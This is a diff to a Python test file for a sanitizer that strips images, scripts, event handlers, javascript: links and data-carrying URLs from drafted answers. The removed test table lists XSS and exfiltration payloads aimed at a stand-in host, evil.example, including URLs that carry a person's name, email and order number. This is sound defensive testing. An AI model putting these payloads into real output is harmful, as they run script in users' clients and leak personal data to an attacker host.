@@ -12,6 +12,9 @@ from hypothesis import strategies as st
 from grounding.asking.templates import template
 from rai.screening.draft import LEAK, MARKER, DraftMaterial, DraftRule, draft_rules, judge_draft
 from rai.screening.markup import ACTIVE, CARRIES, IMAGE, SCHEME, cleaned
+from tests.tables import Tables
+
+TABLES = Tables(__file__)
 
 OURS = tuple(template(name) for name in ("system", "guidance", "history", "agent_context", "revision"))
 AROUND = DraftMaterial(
@@ -159,39 +162,13 @@ def test_the_turns_own_markers_belong_in_no_answer() -> None:
     assert rule_of("Hubs go back within 30 days.", around) is None
 
 
-@pytest.mark.parametrize(
-    ("draft", "left", "note"),
-    [
-        ("See ![the hub](https://evil.example/p.png?o=1) here.", "See here.", IMAGE),
-        ("See ![a [b] c](https://evil.example/(x).png) here.", "See here.", IMAGE),
-        ("See ![hub][pic] here.\n\n[pic]: https://evil.example/x.png", "See here.\n\n[pic]: https://evil.example/x.png", IMAGE),
-        ("See ![pic] here.\n\n[pic]: https://evil.example/x.png", "See here.\n\n[pic]: https://evil.example/x.png", IMAGE),
-        ("See <img src=https://evil.example/x.png> here.", "See here.", IMAGE),
-        ("See <IMG\n SRC='x' onerror='y'> here.", "See here.", IMAGE),
-        ("See <svg onload=alert(1)></svg>here.", "See here.", IMAGE),
-        ("See <img src=x", "See", IMAGE),
-        ("See !<img src=y>[hub](https://evil.example/x.png) here.", "See here.", IMAGE),
-        ("Hello <script>fetch('//evil.example')</script>there.", "Hello there.", ACTIVE),
-        ("Hello <div style='background:url(//evil.example/?x)'>there.", "Hello there.", ACTIVE),
-        ("Hello <b onmouseover=steal()>there.", "Hello there.", ACTIVE),
-        ("Hello <iframe src='//evil.example'></iframe>there.", "Hello </iframe>there.", ACTIVE),
-        ("Press [here](javascript:alert(1)).", "Press here.", SCHEME),
-        ("Press [here](JaVa\tScript:alert(1)).", "Press here.", SCHEME),
-        ("Press [here](&#106;avascript:alert(1)).", "Press here.", SCHEME),
-        ("Press [here](data:text/html;base64,PHNjcmlwdD4=).", "Press here.", SCHEME),
-        ("Press <a href='vbscript:x'>here</a>.", "Press here.", SCHEME),
-        ("Press javascript:alert(1) now.", "Press now.", SCHEME),
-        ("See [the status](https://evil.example/?o=ORD-55512).", "See the status.", CARRIES),
-        ("See [it](https://evil.example/p/miriam%40example.org).", "See it.", CARRIES),
-        ("See https://evil.example/?q=miriam+aldersey now.", "See now.", CARRIES),
-        ("See https://miriam-aldersey.evil.example/ now.", "See now.", CARRIES),
-        (f"See https://evil.example/?d={base64.b64encode(b'order of Miriam Aldersey').decode()} now.", "See now.", CARRIES),
-        ("See <a href='https://evil.example/?o=55512'>here</a>.", "See here.", CARRIES),
-    ],
-)  # fmt: skip
+NOTES = {"image": IMAGE, "active": ACTIVE, "scheme": SCHEME, "carries": CARRIES}
+
+
+@TABLES.each("taken_out")
 def test_what_a_client_would_load_run_or_send_is_taken_out_and_noted(draft: str, left: str, note: str) -> None:
     judged = judge_draft(draft, AROUND)
-    assert (judged.text, judged.notes) == (left, (note,))
+    assert (judged.text, judged.notes) == (left, (NOTES[note],))
     assert not judged.screening.blocked
 
 
